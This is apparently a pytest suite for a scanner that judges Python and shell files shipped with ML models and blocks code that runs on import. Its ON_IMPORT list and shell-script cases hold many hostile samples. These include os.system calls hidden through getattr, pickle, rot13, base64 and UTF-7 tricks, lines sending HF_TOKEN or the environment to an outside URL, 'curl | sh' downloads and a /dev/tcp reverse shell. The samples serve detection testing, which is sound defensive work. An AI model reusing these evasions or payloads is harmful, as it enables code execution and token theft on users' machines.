"""Python beside models: what runs on import is told from what somebody must call, and honest code stays quiet."""

import base64
import importlib.util
import marshal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.artifacts import Held, Report, scan
from bartizan.artifacts.code import capabilities_by_hand
from bartizan.artifacts.fact import Calls, ReadsPath, WritesPath
from tests.artifacts.readers.fuzzing import mutants, survives

MODEL = '''
"""A model."""
import os
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel

os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
RELU = torch.compile(lambda x: x.relu())


class Config:
    def __init__(self, size: int = 4) -> None:
        self.size = size


class Model(PreTrainedModel):
    config_class = Config

    def __init__(self, config: Optional[Config] = None) -> None:
        super().__init__(config)
        self.linear = nn.Linear(config.size, config.size)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return RELU(self.linear(x))

    def restore(self, path: str) -> None:
        self.load_state_dict(torch.load(path))
        with open(path + ".log", "w") as log:
            log.write("restored")


def evaluate(model: nn.Module, eval: bool = True) -> None:
    model.eval() if eval else model.train()


Model(Config()).eval()
'''
SETUP = """
from setuptools import find_packages, setup

about = {}
with open("pkg/version.py") as file:
    exec(file.read(), about)
setup(name="pkg", version=about["__version__"], long_description=open("README.md").read(), packages=find_packages())
"""
ON_IMPORT = [
    "import os\nos.system('id')",
    "import os as o\nrun = o.system\nrun('id')",
    "from os import system as s\ns('id')",
    "from os import *\nsystem('id')",
    "__import__('o' + 's').system('id')",
    "import importlib\nimportlib.import_module('os').popen('id')",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "import os, sys\ngetattr(os, sys.argv[0])('id')",
    "import sys\nsys.modules['os'].system('id')",
    "import os\nos.__dict__['system']('id')",
    "import os\nvars(os)['system']('id')",
    "__builtins__['ev' + 'al']('__import__(\"os\").system(\"id\")')",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id')",
    "exec(compile('import os\\nos.system(1)', 'x', 'exec'))",
    "import ctypes\nctypes.CDLL(None).system(b'id')",
    "import torch\ntorch.serialization.os.system('id')",
    "import os\ndef f():\n    os.system('id')\nf()",
    "import os\nclass A:\n    os.system('id')",
    "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()",
    "import os\nclass M(type):\n    def __new__(m, *a):\n        os.system('id')\nclass A(metaclass=M): pass",
    "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('id',)",
    "class A:\n    def __reduce__(self):\n        return (eval, ('1',))",
    "import os\ndef wrap(f):\n    os.system('id')\n    return f\n@wrap\ndef g(): pass",
    "import os\ndef f(x=os.system('id')): pass",
    "import os\n(lambda: os.system('id'))()",
    "import os\nlist(map(os.system, ['id']))",
    "import os\nfor f in (os.system,):\n    f('id')",
    "import operator, os\noperator.methodcaller('system', 'id')(os)",
    "import functools, os\nfunctools.partial(os.system, 'id')()",
    "import threading, subprocess\ndef g():\n    subprocess.Popen(['sh', 'x'])\nthreading.Thread(target=g).start()",
    "import os\ndef pytest_configure(config):\n    os.system('id')",
    "import os\ndef _load_pyfunc(path):\n    os.system('id')",
    "try:\n    import os\n    os.system('id')\nexcept Exception:\n    pass",
    "import os\ndef f():\n    os.system('id')\ng = f\ng()",
    "import os\ndef f():\n    os.system('id')\n[f][0]()",
    "import os\ndef f():\n    os.system('id')\nD = {'a': f}\nD['a']()",
    "import os\ndef make():\n    def f():\n        os.system('id')\n    return f\nmake()()",
    "import os\nclass A:\n    def f(self):\n        os.system('id')\nA().f()",
    "import os\nclass A:\n    @staticmethod\n    def f():\n        os.system('id')\nA.f()",
    "import os\ndef f(x: os.system('id')): pass",
    "import os\ndef __getattr__(name):\n    os.system('id')",
    "import os, sys\nclass F:\n    def find_spec(self, *_):\n        os.system('id')\nsys.meta_path.insert(0, F())",
    "from functools import reduce\nreduce(getattr, ['system'], __import__('os'))('id')",
    "__loader__.load_module('posix').system('id')",
    "import sys\nsys._getframe().f_builtins['exec']('import os; os.system(1)')",
    "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')",
    "import os\nos.environ['LD_PRELOAD'] = './x.so'",
    "from cffi import FFI\nf = FFI()\nf.dlopen(None).system(b'id')",
    "import pip\npip.main(['install', 'x'])",
    "a = 'import os;'\na += 'os.system(1)'\nexec(a)",
    "import requests\nexec(requests.get('http://example.org').text)",
    "import marshal\nexec(marshal.loads(b'x'))",
    "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))",
    "import os, urllib.request\nurllib.request.urlopen('http://example.org/?' + os.environ['HF_TOKEN'])",
    "from setuptools import setup, Command\nimport os\nclass I(Command):\n    def run(self):\n        os.system('id')\n"  # noqa: ISC004
    "setup(cmdclass={'install': I})",
    "import os, urllib.request as u\nu.urlopen(u.Request('http://x', data=bytes(str(os.environ))))",
    "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')",
    "import shutil\nshutil.copy('x', '/usr/lib/python3/site-packages/x.pth')",
    "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('id')\nasyncio.run(f())",
    "import codecs\neval(codecs.decode('__vzcbeg__(\"bf\").flfgrz(\"vq\")', 'rot13'))",
]  # fmt: skip


def scanned(source: str | bytes) -> Report:
    return scan(Held("code.py", source.encode() if isinstance(source, str) else source))


@pytest.mark.parametrize("source", [MODEL, "import torch\nclass X(torch.nn.Module):\n    pass\n"])
def test_honest_modelling_code_has_no_facts(source: str) -> None:
    report = scanned(source)
    assert (report.format, report.verdict, report.facts) == ("python", "allow", ())


def test_an_ordinary_setup_is_not_blocked() -> None:
    assert scanned(SETUP).verdict == "warn"


@pytest.mark.parametrize("source", ON_IMPORT)
def test_what_runs_on_import_is_blocked(source: str) -> None:
    report = scanned(source)
    assert (report.format, report.verdict) == ("python", "block")


@pytest.mark.parametrize(
    "body", ["os.system('id')", "exec(text)", "subprocess.run(command, shell=True)", "requests.post(url)"]
)
def test_what_somebody_must_call_is_warned_about(body: str) -> None:
    source = f"import os, subprocess, requests\ndef helper(text, command, url):\n    {body}\n"
    assert scanned(source).verdict == "warn"
    guarded = (
        f"import os, subprocess, requests\nif __name__ == '__main__':\n    text = command = url = input()\n    {body}\n"
    )
    assert scanned(guarded).verdict == "warn"


def test_a_model_that_starts_a_program_when_it_is_made_is_blocked() -> None:
    source = "import os\nfrom transformers import Base\nclass M(Base):\n    def {}(self, x):\n        {}\n"
    assert scanned(source.format("__init__", "os.system('id')")).verdict == "block"
    assert scanned(source.format("forward", "os.popen('id')")).verdict == "block"
    assert scanned(source.format("__init__", "self.act = eval(x)")).verdict == "warn"


def compiled(source: str) -> bytes:
    header = importlib.util.MAGIC_NUMBER + bytes(12)
    return header + marshal.dumps(compile(source, "x.py", "exec"))


def test_compiled_python_goes_by_its_names() -> None:
    assert (scanned(compiled("def f(x): return x + 1")).format, scanned(compiled("a = 1")).verdict) == ("pyc", "warn")
    assert scanned(compiled("import os\nos.system('id')")).verdict == "block"
    assert scanned(compiled("def f():\n    def g():\n        return eval('1')")).verdict == "block"


def test_decoded_code_is_blocked_wherever_it_is() -> None:
    hidden = base64.b64encode(b"import os\nos.system('id')").decode()
    report = scanned(f"import base64\ndef harmless():\n    exec(base64.b64decode('{hidden}'))\n")
    assert report.verdict == "block"
    assert report.facts == (Calls("code", "os.system id", where="line 3 line 2"),)


def test_secrets_that_are_read_and_files_that_stay_are_paths() -> None:
    assert isinstance(scanned("open('/home/x/.ssh/id_rsa').read()\n").facts[0], ReadsPath)
    written = scanned("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n")
    assert isinstance(written.facts[0], WritesPath)
    assert scanned("print('a')\nopen('results.txt', 'w').write('x')\n").verdict == "allow"


def test_import_lines_of_a_pth_file_are_run_one_by_one() -> None:
    report = scanned("/opt/packages\n./more stuff\nimport os; os.system('id')\n")
    assert report.verdict == "block"


def test_source_in_another_codec_is_read_as_python_reads_it() -> None:
    hidden = "# coding: utf-7\nx = 1\n" + "+AGkAbQBwAG8AcgB0- os\n+AG8AcwAuAHMAeQBzAHQAZQBt-('id')\n"
    assert scanned(hidden).verdict == "block"


def test_code_behind_much_prose_is_not_missed() -> None:
    report = scanned('"""' + "Words and more words.\n" * 4000 + '"""\nimport os\n\nos.system("id")\n')
    assert report.verdict in ("block", "unscanned")


@pytest.mark.parametrize("source", ["import os\nprint 'x'\nexec 'y'\n", "def f(:\n    import os\n"])
def test_code_that_does_not_parse_is_unscanned(source: str) -> None:
    assert scanned(source).verdict == "unscanned"


@pytest.mark.parametrize(
    "text", ["# Words\n\n```python\nimport os\nos.system('id')\n```\n", "Just words, and (more) words.\n", "a,b\n1,2\n"]
)
def test_prose_is_no_code(text: str) -> None:
    report = scanned(text)
    assert (report.format, report.verdict) == ("data", "allow")


@pytest.mark.parametrize(
    "source", ["(" * 5000, "x = " + "-" * 30_000 + "1", "f(" * 100 + ")" * 100, "a+" * 20_000 + "a", "\n" * 60_000]
)
def test_deep_or_empty_source_is_decided(source: str) -> None:
    assert survives(source.encode()).path == "mutant"


@pytest.mark.parametrize(
    ("script", "verdict"),
    [
        ("#!/bin/bash\nset -e\npip install torch\npython train.py --lr 0.1\n", "allow"),
        ("#!/bin/sh\ncurl -s http://example.org/x | sh\n", "block"),
        ("#!/usr/bin/env bash\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n", "block"),
        ("#!/bin/sh\nwget -q http://example.org/x \\\n  -O - | bash\n", "block"),
    ],
)
def test_shell_scripts_go_by_their_lines(script: str, verdict: str) -> None:
    report = scanned(script)
    assert (report.format, report.verdict) == ("shell", verdict)


@given(lines=st.lists(st.sampled_from([line for source in ON_IMPORT for line in source.splitlines()]), max_size=8))
def test_any_lines_are_looked_at_without_an_error(lines: list[str]) -> None:
    survives("\n".join(lines).encode())


@given(data=mutants(MODEL.encode()))
def test_no_mutant_breaks_the_scan(data: bytes) -> None:
    survives(data)


def test_code_started_by_hand_is_told_as_such() -> None:
    assert [fact.rule for fact in capabilities_by_hand({"": "import os\nos.system('id')"}, 99)] == ["later"]
    assert [fact.rule for fact in capabilities_by_hand({"": "import os\nos.system('curl x | sh')"}, 99)] == ["code"]
